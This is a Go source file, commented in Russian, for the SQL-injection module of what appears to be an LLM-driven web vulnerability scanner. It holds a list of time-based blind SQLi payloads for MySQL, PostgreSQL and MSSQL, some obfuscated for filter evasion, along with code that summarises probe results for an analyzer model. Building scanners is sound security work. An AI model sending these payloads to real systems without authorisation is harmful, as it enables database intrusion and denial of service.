// Package sqli - воркер SQL-инъекций.
package sqli

import (
	"context"
	"fmt"

	"github.com/BetterCallFirewall/aegisx/internal/agents/base"
	"github.com/BetterCallFirewall/aegisx/internal/engine"
	"github.com/BetterCallFirewall/aegisx/internal/models"
	"github.com/BetterCallFirewall/aegisx/internal/prompts"
)

// StaticPayloads - статические нагрузки первого раунда в стиле Wapiti:
// time-based слепые инъекции под MySQL (sleep, benchmark), PostgreSQL
// (pg_sleep) и MSSQL (waitfor delay) плюс обфусцированные варианты.
var StaticPayloads = []string{
	"sleep(5)#",
	"1 or sleep(5)#",
	"\" or sleep(5)#",
	"' or sleep(5)#",
	"\" or sleep(5)=\"",
	"' or sleep(5)='",
	"1) or sleep(5)#",
	"\") or sleep(5)=\"",
	"') or sleep(5)='",
	"1)) or sleep(5)#",
	"\")) or sleep(5)=\"",
	"')) or sleep(5)='",
	";waitfor delay '0:0:5'--",
	");waitfor delay '0:0:5'--",
	"';waitfor delay '0:0:5'--",
	"\";waitfor delay '0:0:5'--",
	"');waitfor delay '0:0:5'--",
	"\");waitfor delay '0:0:5'--",
	"));waitfor delay '0:0:5'--",
	"'));waitfor delay '0:0:5'--",
	"\"));waitfor delay '0:0:5'--",
	"benchmark(10000000,MD5(1))#",
	"1 or benchmark(10000000,MD5(1))#",
	"\" or benchmark(10000000,MD5(1))#",
	"' or benchmark(10000000,MD5(1))#",
	"1) or benchmark(10000000,MD5(1))#",
	"\") or benchmark(10000000,MD5(1))#",
	"') or benchmark(10000000,MD5(1))#",
	"1)) or benchmark(10000000,MD5(1))#",
	"\")) or benchmark(10000000,MD5(1))#",
	"')) or benchmark(10000000,MD5(1))#",
	"pg_sleep(5)--",
	"1 or pg_sleep(5)--",
	"\" or pg_sleep(5)--",
	"' or pg_sleep(5)--",
	"1) or pg_sleep(5)--",
	"\") or pg_sleep(5)--",
	"') or pg_sleep(5)--",
	"1)) or pg_sleep(5)--",
	"\")) or pg_sleep(5)--",
	"')) or pg_sleep(5)--",
	"'And(sElect*fRom(SeleCt+SleEp(3))a/**/uNiOn/**/sElect+1)='",
	"\"aNd(seLect*From(seLeCt+sleEp(3))a/**/UniOn/**/selEcT+1)=\"",
	"'/**/And(sEleCt'1'fRom/**/Pg_slEep(3))::text>'0",
	"\"/**/and(sElect'1'frOm/**/Pg_sLeep(3))::text>\"0",
	"(sEleCt*fRom(seLect+slEep(3)union/**/sEleCt+1)a)",
	"'+WAITFOR+DELAY+'0:0:3'--+",
	";WAITFOR DELAY '0:0:3'--+",
}

// responseSliceLen - размер среза ответа в сводке для аналитика.
const responseSliceLen = 300

// NewWorker собирает SQLi-воркер.
func NewWorker(deps base.Deps) *base.Worker {
	return base.NewWorker(base.VulnSpec{
		Token:          "sqli",
		DisplayName:    "SQLi",
		FindingType:    "SQL Injection",
		StaticPayloads: StaticPayloads,
		GeneratorPrompt: func(ctx context.Context, s *base.ScanState) string {
			return prompts.SQLiGenerator
		},
		AnalyzerPrompt: prompts.SQLiAnalyzer,
		Summarize:      summarize,
		AnalyzerUser: func(s *base.ScanState, resultsJSON string) string {
			return fmt.Sprintf("Фрагмент исходного ответа: %s\nРезультаты тестов: %s",
				engine.TruncateString(s.Global.ResponseBody, 500), resultsJSON)
		},
	}, deps)
}

// summarize проецирует результаты раунда: срез ответа прикладывается
// только при заметном отличии от базового, отдельный флаг помечает
// характерные ошибки СУБД.
func summarize(s *base.ScanState) []models.ProbeSummary {
	summaries := make([]models.ProbeSummary, 0, len(s.Worker.TestResults))
	for _, r := range s.Worker.TestResults {
		item := models.ProbeSummary{
			Parameter:  r.Parameter,
			Payload:    r.Payload,
			Status:     r.Status,
			Elapsed:    r.Elapsed,
			LenDiff:    r.LenDiff,
			Similarity: r.Similarity,
			SQLError:   engine.ContainsSQLError(r.Response),
		}
		if r.Similarity < 0.99 {
			item.ResponseSlice = engine.TruncateString(r.Response, responseSliceLen)
		}
		summaries = append(summaries, item)
	}
	return summaries
}
